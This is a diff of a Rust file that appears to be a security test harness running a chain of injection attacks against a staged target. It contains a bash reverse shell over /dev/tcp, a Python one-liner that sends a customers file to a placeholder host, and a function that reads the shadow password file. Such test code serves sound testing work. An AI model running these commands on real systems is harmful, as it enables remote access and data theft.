@@ -38,11 +38,11 @@ pub(crate) const CHAIN: &[Attack] = &[
 
 /// `bash` with its standard input, output and error on a connection to the attacker.
 fn reverse_shell(stage: &mut Stage) -> Result<String, String> {
-    stage.expect_shell();
+    let before = stage.expect_shell();
     let answer =
         stage.inject(&format!("bash -c 'bash -i >& /dev/tcp/{} 0>&1'", SHELL_CATCHER.replace(':', "/")));
     // The shell multiplies; nobody else would know the answer.
-    match stage.shell_said() {
+    match stage.shell_said(before) {
         Some(text) if text.contains("shell-42") => Ok("the attacker has a shell".into()),
         Some(text) => Err(format!("the attacker's line says {text:?}")),
         None => Err(last_line(&answer)),
@@ -87,7 +87,7 @@ fn read_shadow(stage: &mut Stage) -> Result<String, String> {
 }
 
 fn call_home(stage: &mut Stage) -> Result<String, String> {
-    let before = stage.home_bytes();
+    let before = stage.home();
     let (host, port) = HOME.split_once(':').unwrap_or((HOME, ""));
     let answer = stage.inject(&format!(
         "python3 -c \"import socket; socket.create_connection(('{host}', {port})).sendall(b'the customers file')\""
